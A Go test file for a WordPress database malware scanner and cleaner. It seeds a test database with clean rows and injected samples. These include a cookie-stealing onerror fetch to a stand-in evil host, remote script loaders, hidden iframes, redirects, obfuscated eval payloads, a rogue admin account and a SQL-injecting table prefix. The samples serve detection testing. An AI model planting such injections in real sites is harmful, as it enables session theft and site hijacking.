package dbscan

import (
	"context"
	"crypto/rand"
	"database/sql"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/go-sql-driver/mysql"

	"github.com/palisadehq/palisade/internal/malware"
	"github.com/palisadehq/palisade/internal/malware/clamdtest"
)

// The injected clock: registrations are seeded relative to it.
var now = time.Date(2026, 6, 15, 12, 0, 0, 0, time.UTC)

// adminDSN finds the MariaDB/MySQL the tests use: $PALISADE_TEST_MYSQL_DSN
// (a go-sql-driver DSN, e.g. root@unix(/run/mysqld/mysqld.sock)/). Unset,
// the test is skipped, except with CI=true, where the local server is
// used (root on its socket, else on 127.0.0.1:3306) and its absence fails.
func adminDSN(t *testing.T) *mysql.Config {
	t.Helper()
	candidates := []string{os.Getenv("PALISADE_TEST_MYSQL_DSN")}
	if candidates[0] == "" {
		if os.Getenv("CI") != "true" {
			t.Skip("PALISADE_TEST_MYSQL_DSN is not set: set it to a MariaDB/MySQL administrator's DSN, e.g. root@unix(/run/mysqld/mysqld.sock)/ (CI=true uses the local server)")
		}
		candidates = []string{"root@unix(/run/mysqld/mysqld.sock)/", "root@tcp(127.0.0.1:3306)/"}
	}
	var errs []string
	for _, dsn := range candidates {
		cfg, err := mysql.ParseDSN(dsn)
		if err != nil {
			t.Fatalf("PALISADE_TEST_MYSQL_DSN: %v", err)
		}
		db, err := sql.Open("mysql", cfg.FormatDSN())
		if err == nil {
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			err = db.PingContext(ctx)
			cancel()
			db.Close()
		}
		if err == nil {
			return cfg
		}
		errs = append(errs, fmt.Sprintf("%s %s: %v", cfg.Net, cfg.Addr, err))
	}
	t.Fatalf("no MariaDB/MySQL reachable (%s): start the server or set PALISADE_TEST_MYSQL_DSN", strings.Join(errs, "; "))
	return nil
}

// fixture is a database of the test's own, dropped when the test ends.
type fixture struct {
	admin *sql.DB // an administrator, on the fixture's database
	cfg   *mysql.Config
	name  string
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	cfg := adminDSN(t)
	b := make([]byte, 6)
	rand.Read(b)
	name := "palisade_dbscan_" + hex.EncodeToString(b)
	root, err := sql.Open("mysql", cfg.FormatDSN())
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	if _, err := root.Exec("CREATE DATABASE `" + name + "` CHARACTER SET utf8mb4"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		root, err := sql.Open("mysql", cfg.FormatDSN())
		if err == nil {
			_, err = root.Exec("DROP DATABASE IF EXISTS `" + name + "`")
			root.Close()
		}
		if err != nil {
			t.Errorf("dropping %s: %v", name, err)
		}
	})
	c := cfg.Clone()
	c.DBName = name
	c.MultiStatements = true
	admin, err := sql.Open("mysql", c.FormatDSN())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { admin.Close() })
	return &fixture{admin: admin, cfg: cfg, name: name}
}

func (f *fixture) exec(t *testing.T, q string, args ...any) {
	t.Helper()
	if _, err := f.admin.Exec(q, args...); err != nil {
		t.Fatalf("%s: %v", q, err)
	}
}

func (f *fixture) schema(t *testing.T, prefix string) {
	t.Helper()
	b, err := os.ReadFile("testdata/schema.sql")
	if err != nil {
		t.Fatal(err)
	}
	f.exec(t, strings.ReplaceAll(string(b), "{p}", prefix))
}

// readOnlyUser creates a user that may only SELECT in the fixture's
// database and connects as it with Connect.
func (f *fixture) readOnlyUser(t *testing.T) *sql.DB {
	t.Helper()
	user := "pd_" + f.name[len(f.name)-12:]
	for _, host := range []string{"localhost", "127.0.0.1", "%"} {
		f.exec(t, fmt.Sprintf("CREATE USER '%s'@'%s' IDENTIFIED BY 'ro-secret'", user, host))
		f.exec(t, fmt.Sprintf("GRANT SELECT ON `%s`.* TO '%s'@'%s'", f.name, user, host))
		t.Cleanup(func() {
			if _, err := f.admin.Exec(fmt.Sprintf("DROP USER IF EXISTS '%s'@'%s'", user, host)); err != nil {
				t.Errorf("dropping user %s: %v", user, err)
			}
		})
	}
	tg := Target{User: user, Password: "ro-secret", Database: f.name}
	if f.cfg.Net == "unix" {
		tg.Socket = f.cfg.Addr
	} else {
		host, port, err := net.SplitHostPort(f.cfg.Addr)
		if err != nil {
			t.Fatal(err)
		}
		tg.Host = host
		tg.Port, _ = strconv.Atoi(port)
	}
	db, err := Connect(context.Background(), tg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

type seedPost struct {
	id            int
	status, typ   string
	title, body   string
	injectedClass string // "" for a clean post
}

func serialize(items ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "a:%d:{", len(items))
	for i, it := range items {
		fmt.Fprintf(&b, `i:%d;s:%d:"%s";`, i, len(it), it)
	}
	b.WriteString("}")
	return b.String()
}

func links(n int, host string) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `<li><a href="https://%s%d.example.net/page-%d">Resource %d</a></li>`, host, i%7, i, i)
	}
	return "<ul>" + b.String() + "</ul>"
}

// escapeAll writes every byte as %XX, as injected loaders do.
func escapeAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

const para = "<!-- wp:paragraph --><p>Our summer collection is in. Free shipping on orders over 50 euros, and returns within 30 days.</p><!-- /wp:paragraph -->\n"

// seed writes WordPress-like rows: clean ones, including the legitimate
// look-alikes of what the checks hunt, and one injected row per class.
// It returns the findings the scan must report, as location → signatures.
func seed(t *testing.T, f *fixture, p string) map[string][]string {
	t.Helper()
	want := map[string][]string{}
	expect := func(loc string, sigs ...string) { want["db:"+p+loc] = append(want["db:"+p+loc], sigs...) }
	opt := func(name, value, autoload string) {
		f.exec(t, "INSERT INTO `"+p+"options` (option_name, option_value, autoload) VALUES (?, ?, ?)", name, value, autoload)
	}
	// Options: the clean ones.
	opt("home", "https://shop.example.com", "yes")
	opt("blogname", "Shop & Co", "yes")
	opt("active_plugins", serialize("akismet/akismet.php", "woocommerce/woocommerce.php", "hello.php"), "yes")
	opt("widget_block", `a:2:{i:2;a:1:{s:7:"content";s:52:"<!-- wp:search /--><p><a href="/about/">About</a></p>";}s:12:"_multiwidget";i:1;}`, "yes")
	opt("theme_mods_shop", `a:1:{s:18:"custom_css_post_id";i:-1;}`, "yes")
	opt("header_footer_code", `<script async src="https://www.googletagmanager.com/gtag/js?id=G-TEST1234"></script>`+
		`<script>window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);} gtag('js', new Date()); gtag('config', 'G-TEST1234');</script>`, "on")
	opt("shop_settings", `{"currency":"EUR","checkout":{"redirect":"/thanks/"}}`, "auto")
	// Not autoloaded: cached HTML, read only when its page is built. Not
	// scanned (only autoloaded options and the named ones are).
	opt("_transient_feed_abc", `<div style="display:none"><a href="https://a.example.org/">a</a><a href="https://b.example.org/">b</a></div>`, "no")

	// Options: the injected ones.
	opt("siteurl", "https://evil-cdn.example.org", "yes")
	expect("options/option_name=siteurl/option_value", SigSiteURLHijack)
	opt("blogdescription", `Just another site<img src=x onerror="fetch('//evil.example.org/c?'+document.cookie)">`, "yes")
	expect("options/option_name=blogdescription/option_value", SigMarkupInText)
	opt("widget_text", serialize(`<p>Welcome</p><script>eval(atob("Y29uc29sZS5sb2coImhhcm1sZXNzIHRlc3QiKQ=="))</script>`), "yes")
	expect("options/option_name=widget_text/option_value", SigObfuscatedScript)
	opt("active_plugins_backup", "x", "no") // not read
	f.exec(t, "UPDATE `"+p+"options` SET option_value = ? WHERE option_name = 'active_plugins'",
		serialize("akismet/akismet.php", "woocommerce/woocommerce.php", "hello.php", "../../uploads/2026/06/cache.php"))
	expect("options/option_name=active_plugins/option_value", SigActivePlugin)
	opt("wp_check_hash", `<script>eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,34,104,97,114,109,108,101,115,115,34,41))</script>`, "yes")
	expect("options/option_name=wp_check_hash/option_value", SigObfuscatedScript)

	// Posts.
	docWrite := base64.StdEncoding.EncodeToString([]byte(`<script src="https://evil-cdn.example.org/x.js"></script>`))
	posts := []seedPost{
		// Clean: a post with a tweet embed (an external script), own
		// links, an image as a data URI, a YouTube iframe.
		{1, "publish", "post", "Summer collection", para + `<p>See <a href="https://shop.example.com/summer/">the shop</a> and <a href="/sale/">the sale</a>.</p>` +
			`<blockquote class="twitter-tweet"><p>New in!</p></blockquote><script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>` +
			`<img alt="dot" src="data:image/png;base64,` + base64.StdEncoding.EncodeToString(make([]byte, 300)) + `">` +
			`<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/abc" allowfullscreen></iframe>`, ""},
		// Clean: a security article quoting an injection, escaped.
		{2, "publish", "post", "How we cleaned a hacked site", para + `<pre><code>&lt;script&gt;eval(atob("..."))&lt;/script&gt;</code></pre><p>Never paste code like this.</p>`, ""},
		// Clean: a page with a hidden mobile menu of the site's own links.
		{3, "publish", "page", "About", `<div class="mobile-nav" style="display:none"><a href="https://shop.example.com/">Home</a> <a href="https://www.shop.example.com/shop/">Shop</a> <a href="/contact/">Contact</a></div>` + para, ""},
		// Clean: a resources page with many external links (fewer than LinkFarm).
		{4, "publish", "page", "Resources", para + links(30, "partner"), ""},
		// Clean: an inline script reading the location, not changing it.
		{5, "publish", "page", "Store finder", `<script>if (window.location.hash === "#map") { document.body.classList.add("show-map"); }</script>` + para, ""},
		// Clean: menu items, custom CSS hiding things.
		{6, "publish", "nav_menu_item", "", "", ""},
		{7, "publish", "custom_css", "shop", ".promo{display:none}.screen-reader-text{position:absolute;left:-9999px}", ""},
		// Injected, one per class.
		{10, "publish", "post", "Sale", para + `<script>eval(atob("Y29uc29sZS5sb2coImhhcm1sZXNzIHRlc3QiKQ=="))</script>`, "obfuscated"},
		{9, "draft", "post", "Draft 2", para + `<script>document.write(unescape('` + escapeAll(`<script src="https://evil-cdn.example.org/y.js"></script>`) + `'))</script>`, "docwrite"},
		{11, "draft", "post", "Draft", para + `<script>document.write(atob('` + docWrite + `'))</script>`, "docwrite"},
		{12, "publish", "post", "Links", para + `<div style="position:absolute;left:-5000px">` + links(3, "spam") + `</div>`, "hidden-links"},
		{13, "publish", "post", "Spam", para + `<div style="display:none"><a href="https://x.example.net/">online casino</a> <a href="https://y.example.net/">poker bonus</a> <a href="https://z.example.net/">payday loans</a></div>`, "spam"},
		{14, "publish", "page", "Contact", para + `<iframe src="https://evil-cdn.example.org/t.html" width="0" height="0" frameborder="0"></iframe>`, "iframe"},
		{15, "publish", "post", "Redirected", para + `<script>if (document.cookie.indexOf("seen=") < 0) { window.location.href = "https://evil-cdn.example.org/?r=1"; }</script>`, "redirect"},
		{16, "pending", "post", "Moved", `<meta http-equiv="refresh" content="0; url=https://evil-cdn.example.org/">` + para, "meta"},
		{17, "publish", "post", "Partners", para + links(70, "farm"), "farm"},
		{18, "publish", "post", `Hello<script src="https://evil-cdn.example.org/t.js"></script>`, para, "title"},
		{19, "private", "post", "Notes", para + `<?php eval(base64_decode("ZWNobyAiaGFybWxlc3MiOw==")); ?>`, "php"},
		// Injected but not shown: trash and revisions are not scanned.
		{20, "trash", "post", "Old", `<script>eval(atob("Y29uc29sZS5sb2coMSk="))</script>`, ""},
		{21, "inherit", "revision", "Rev", `<script>eval(atob("Y29uc29sZS5sb2coMSk="))</script>`, ""},
	}
	for _, sp := range posts {
		f.exec(t, "INSERT INTO `"+p+"posts` (ID, post_title, post_content, post_status, post_type, post_date) VALUES (?, ?, ?, ?, ?, ?)",
			sp.id, sp.title, sp.body, sp.status, sp.typ, now.Add(-24*time.Hour))
	}
	expect("posts/ID=10/post_content", SigObfuscatedScript)
	// clamd normalises an HTML document (lower case) before matching:
	// Palisade.JS.Injection.DocWriteAtob's pattern is caseless for that.
	expect("posts/ID=11/post_content", SigObfuscatedScript, "Palisade.JS.Injection.DocWriteAtob")
	expect("posts/ID=9/post_content", SigObfuscatedScript, "Palisade.JS.Injection.DocWriteUnescape")
	expect("posts/ID=12/post_content", SigHiddenLinks)
	expect("posts/ID=13/post_content", SigHiddenLinks, "Palisade.HTML.SEOSpam.HiddenLinks")
	expect("posts/ID=14/post_content", SigHiddenIframe)
	expect("posts/ID=15/post_content", SigScriptRedirect)
	expect("posts/ID=16/post_content", SigMetaRefresh)
	expect("posts/ID=17/post_content", SigLinkFarm)
	expect("posts/ID=18/post_title", SigMarkupInText)
	expect("posts/ID=19/post_content", "Palisade.PHP.Obfuscated.EvalBase64")

	// Comments.
	comment := func(id int, approved, content string) {
		f.exec(t, "INSERT INTO `"+p+"comments` (comment_ID, comment_post_ID, comment_author, comment_content, comment_approved) VALUES (?, 1, 'a', ?, ?)",
			id, content, approved)
	}
	comment(1, "1", `Great post! I wrote about this too: <a href="https://blog.example.net/summer">my blog</a>`)
	comment(2, "0", "Waiting for moderation, thanks.")
	comment(3, "1", `Nice <?php eval(gzinflate(base64_decode("80jNycnXUShPLMpJUQQA"))); ?>`)
	expect("comments/comment_ID=3/comment_content", "Palisade.PHP.Obfuscated.GzinflateB64")
	comment(4, "spam", `<script>eval(atob("Y29uc29sZS5sb2coMSk="))</script>`) // spam is not scanned

	// Users.
	user := func(id int, login, email string, registered time.Time, caps string) {
		f.exec(t, "INSERT INTO `"+p+"users` (ID, user_login, user_email, user_registered, display_name) VALUES (?, ?, ?, ?, ?)",
			id, login, email, registered.Format("2006-01-02 15:04:05"), login)
		f.exec(t, "INSERT INTO `"+p+"usermeta` (user_id, meta_key, meta_value) VALUES (?, ?, ?)", id, p+"capabilities", caps)
		f.exec(t, "INSERT INTO `"+p+"usermeta` (user_id, meta_key, meta_value) VALUES (?, 'nickname', ?)", id, login)
	}
	admin := `a:1:{s:13:"administrator";b:1;}`
	user(1, "owner", "owner@shop.example.com", now.AddDate(-5, 0, 0), admin)
	user(2, "wp_support_3", "support@shop-help.example.net", now.Add(-2*24*time.Hour), admin)
	expect("users/ID=2", SigRecentAdmin, SigUnknownAdmin, SigSuspiciousLogin)
	user(3, "jane", "jane@shop.example.com", now.AddDate(-2, 0, 0), admin)
	expect("users/ID=3", SigUnknownAdmin)
	user(4, "helper", "help@wordpress.org", now.AddDate(-1, 0, 0), admin)
	expect("users/ID=4", SigSuspiciousEmail)
	user(5, "newbie", "newbie@mail.example.net", now.Add(-24*time.Hour), `a:1:{s:10:"subscriber";b:1;}`)
	user(6, "editor", "ed@shop.example.com", now.AddDate(-1, 0, 0), `a:1:{s:6:"editor";b:1;}`)
	// A role taken away ("administrator";b:0) is no administrator.
	user(7, "former", "former@shop.example.com", now.Add(-24*time.Hour), `a:2:{s:13:"administrator";b:0;s:6:"author";b:1;}`)
	return want
}

func scanOpts(client *malware.Client) Options {
	return Options{Client: client, SiteHosts: []string{"shop.example.com"}, KnownAdmins: []string{"owner", "helper"},
		Now: func() time.Time { return now }, QueryTimeout: time.Minute}
}

func got(res Result) map[string][]string {
	m := map[string][]string{}
	for _, f := range res.Findings {
		m[f.Location] = append(m[f.Location], f.Signature)
	}
	return m
}

func compare(t *testing.T, want, have map[string][]string) {
	t.Helper()
	for loc, sigs := range want {
		for _, s := range sigs {
			if !slices.Contains(have[loc], s) {
				t.Errorf("%s: %s not found (found %v)", loc, s, have[loc])
			}
		}
	}
	for loc, sigs := range have {
		for _, s := range sigs {
			if !slices.Contains(want[loc], s) {
				t.Errorf("%s: unexpected finding %s (a clean value flagged, or an extra signature)", loc, s)
			}
		}
	}
}

func TestScanWordPress(t *testing.T) {
	client := clamdtest.Start(t)
	f := newFixture(t)
	const p = "x7k_" // not wp_: detected from the tables
	f.schema(t, p)
	want := seed(t, f, p)
	ro := f.readOnlyUser(t)
	ctx := context.Background()

	res, err := Scan(ctx, ro, scanOpts(client))
	if err != nil {
		t.Fatal(err)
	}
	if res.Prefix != p {
		t.Errorf("prefix %q, want %q", res.Prefix, p)
	}
	compare(t, want, got(res))
	if !res.Complete || len(res.Notes) > 0 {
		t.Errorf("complete %v, notes %v: want a complete scan", res.Complete, res.Notes)
	}
	for _, fd := range res.Findings {
		if fd.Class == "" || fd.Severity == "" {
			t.Errorf("%s %s: class %q severity %q", fd.Location, fd.Signature, fd.Class, fd.Severity)
		}
		if strings.HasPrefix(fd.Location, "db:"+p+"users/") != (fd.SHA256 == "") {
			t.Errorf("%s: sha256 %q", fd.Location, fd.SHA256)
		}
	}
	// Every administrator is listed, with its registration date.
	var admins []string
	for _, a := range res.Admins {
		admins = append(admins, fmt.Sprintf("%d %s %s %v", a.ID, a.Login, a.Registered.Format(time.DateOnly), a.Flags))
	}
	wantAdmins := []string{
		"1 owner " + now.AddDate(-5, 0, 0).Format(time.DateOnly) + " []",
		"2 wp_support_3 " + now.Add(-48*time.Hour).Format(time.DateOnly) + " [recent unknown suspicious_login]",
		"3 jane " + now.AddDate(-2, 0, 0).Format(time.DateOnly) + " [unknown]",
		"4 helper " + now.AddDate(-1, 0, 0).Format(time.DateOnly) + " [suspicious_email]",
	}
	if !slices.Equal(admins, wantAdmins) {
		t.Errorf("admins:\n%s\nwant:\n%s", strings.Join(admins, "\n"), strings.Join(wantAdmins, "\n"))
	}
	// Fragments: the injected element exactly, for the ones Clean may take.
	byLoc := map[string]Finding{}
	for _, fd := range res.Findings {
		byLoc[fd.Location+" "+fd.Signature] = fd
	}
	post10 := byLoc["db:"+p+"posts/ID=10/post_content "+SigObfuscatedScript]
	if post10.Fragment != `<script>eval(atob("Y29uc29sZS5sb2coImhhcm1sZXNzIHRlc3QiKQ=="))</script>` || !post10.Cleanable {
		t.Errorf("post 10: fragment %q cleanable %v", post10.Fragment, post10.Cleanable)
	}
	if w := byLoc["db:"+p+"options/option_name=widget_text/option_value "+SigObfuscatedScript]; w.Cleanable {
		t.Error("widget_text is serialised: it must not be cleanable")
	}
	php := byLoc["db:"+p+"posts/ID=19/post_content Palisade.PHP.Obfuscated.EvalBase64"]
	if php.Fragment != "" || php.Cleanable {
		t.Errorf("post 19 (no element to cut): fragment %q cleanable %v", php.Fragment, php.Cleanable)
	}

	// The read-only user cannot clean.
	if _, err := Clean(ctx, ro, client, p, post10); err == nil || errors.Is(err, ErrNotCleanable) {
		t.Errorf("clean as a read-only user: %v, want the server's refusal", err)
	}

	// Clean as the owner: the element is gone, the original kept.
	cl, err := Clean(ctx, f.admin, client, p, post10)
	if err != nil {
		t.Fatal(err)
	}
	if cl.Cleaned != para || cl.Original != para+post10.Fragment || cl.Removed != post10.Fragment || cl.Offset != len(para) {
		t.Errorf("cleaned %+v", cl)
	}
	var stored string
	if err := f.admin.QueryRow("SELECT post_content FROM `" + p + "posts` WHERE ID = 10").Scan(&stored); err != nil || stored != para {
		t.Errorf("post 10 now %q (%v), want %q", stored, err, para)
	}
	// The same finding again: the value changed.
	if _, err := Clean(ctx, f.admin, client, p, post10); !errors.Is(err, ErrChanged) {
		t.Errorf("cleaning twice: %v, want ErrChanged", err)
	}
	// A row changed since the scan is left alone.
	red := byLoc["db:"+p+"posts/ID=15/post_content "+SigScriptRedirect]
	f.exec(t, "UPDATE `"+p+"posts` SET post_content = CONCAT(post_content, ' edited') WHERE ID = 15")
	if _, err := Clean(ctx, f.admin, client, p, red); !errors.Is(err, ErrChanged) {
		t.Errorf("cleaning an edited row: %v, want ErrChanged", err)
	}
	// A serialised option is not cut, even when asked.
	w := byLoc["db:"+p+"options/option_name=widget_text/option_value "+SigObfuscatedScript]
	w.Cleanable = true
	if _, err := Clean(ctx, f.admin, client, p, w); !errors.Is(err, ErrNotCleanable) {
		t.Errorf("cleaning a serialised option: %v, want ErrNotCleanable", err)
	}
	// A finding naming another table or column is refused.
	bad := post10
	bad.Table, bad.Column = p+"users", "user_pass"
	if _, err := Clean(ctx, f.admin, client, p, bad); !errors.Is(err, ErrNotCleanable) {
		t.Errorf("cleaning users: %v, want ErrNotCleanable", err)
	}

	// Scanned again: post 10 is clean now.
	res2, err := Scan(ctx, ro, scanOpts(client))
	if err != nil {
		t.Fatal(err)
	}
	delete(want, "db:"+p+"posts/ID=10/post_content")
	compare(t, want, got(res2))
}

func TestPrefixAndBounds(t *testing.T) {
	client := clamdtest.Start(t)
	f := newFixture(t)
	ctx := context.Background()
	opts := scanOpts(client)

	if _, err := Scan(ctx, f.admin, opts); !errors.Is(err, ErrNoInstall) {
		t.Errorf("empty database: %v, want ErrNoInstall", err)
	}
	f.schema(t, "wp_")
	f.schema(t, "blog2_")
	seed(t, f, "blog2_")
	_, err := Scan(ctx, f.admin, opts)
	if err == nil || !strings.Contains(err.Error(), "blog2_ (wordpress), wp_ (wordpress)") {
		t.Errorf("two installs: %v, want both prefixes named", err)
	}
	o := opts
	o.ConfigFile = []byte("<?php\ndefine( 'DB_NAME', 'x' );\n$table_prefix = 'blog2_';\nrequire_once ABSPATH . 'wp-settings.php';\n")
	res, err := Scan(ctx, f.admin, o)
	if err != nil || res.Prefix != "blog2_" || len(res.Findings) == 0 {
		t.Errorf("prefix from wp-config.php: %q, %d findings, %v", res.Prefix, len(res.Findings), err)
	}
	o = opts
	o.TablePrefix = "wp_"
	if res, err := Scan(ctx, f.admin, o); err != nil || len(res.Findings) != 0 || len(res.Admins) != 0 {
		t.Errorf("the empty wp_ install: %d findings, %v", len(res.Findings), err)
	}
	o.TablePrefix = "nope_"
	if _, err := Scan(ctx, f.admin, o); !errors.Is(err, ErrNoInstall) {
		t.Errorf("a prefix without tables: %v, want ErrNoInstall", err)
	}
	o.TablePrefix = "wp`; DROP TABLE x; --"
	if _, err := Scan(ctx, f.admin, o); err == nil || !strings.Contains(err.Error(), "only letters") {
		t.Errorf("a hostile prefix: %v", err)
	}

	// Bounds: rows per table and bytes per value.
	o = opts
	o.TablePrefix = "blog2_"
	o.MaxRows = 3
	o.MaxValueBytes = 64
	res, err = Scan(ctx, f.admin, o)
	if err != nil {
		t.Fatal(err)
	}
	if res.Complete {
		t.Error("a bounded scan says it is complete")
	}
	for _, st := range res.Tables {
		if st.Rows > 3 {
			t.Errorf("%s: %d rows read, want at most 3", st.Table, st.Rows)
		}
		if st.Table == "blog2_posts" && (!st.RowLimit || st.Truncated == 0) {
			t.Errorf("blog2_posts: %+v, want the row limit and truncated values noted", st)
		}
	}
	for _, fd := range res.Findings {
		if fd.Cleanable {
			t.Errorf("%s: a partly read value is cleanable", fd.Location)
		}
	}

	// A query timeout stops the scan with a clear error.
	o = opts
	o.TablePrefix = "blog2_"
	cctx, cancel := context.WithCancel(ctx)
	cancel()
	if _, err := Scan(cctx, f.admin, o); err == nil {
		t.Error("a cancelled scan succeeded")
	}
	if _, err := Scan(ctx, f.admin, Options{}); err == nil || !strings.Contains(err.Error(), "clamd") {
		t.Errorf("no client: %v", err)
	}
}

func TestConnectErrors(t *testing.T) {
	ctx := context.Background()
	for _, tg := range []Target{{User: "u"}, {Database: "d"}, {User: "u", Database: "d"}} {
		if _, err := Connect(ctx, tg); err == nil {
			t.Errorf("%+v: connected", tg)
		}
	}
	// Nothing listens there: a clear error, within the dial timeout.
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().(*net.TCPAddr)
	l.Close()
	_, err = Connect(ctx, Target{Host: "127.0.0.1", Port: addr.Port, User: "u", Password: "secret-pw", Database: "d", DialTimeout: 2 * time.Second})
	if err == nil || !strings.Contains(err.Error(), "connecting to 127.0.0.1") || strings.Contains(err.Error(), "secret-pw") {
		t.Errorf("unreachable: %v", err)
	}
	// The caller's dialer makes the connection (and may refuse it).
	refused := errors.New("address not permitted")
	var dialled string
	_, err = Connect(ctx, Target{Host: "10.1.2.3", User: "u", Database: "d", Dial: func(_ context.Context, network, addr string) (net.Conn, error) {
		dialled = network + " " + addr
		return nil, refused
	}})
	if !errors.Is(err, refused) || dialled != "tcp 10.1.2.3:3306" {
		t.Errorf("through the caller's dialer: %v (dialled %q)", err, dialled)
	}
}
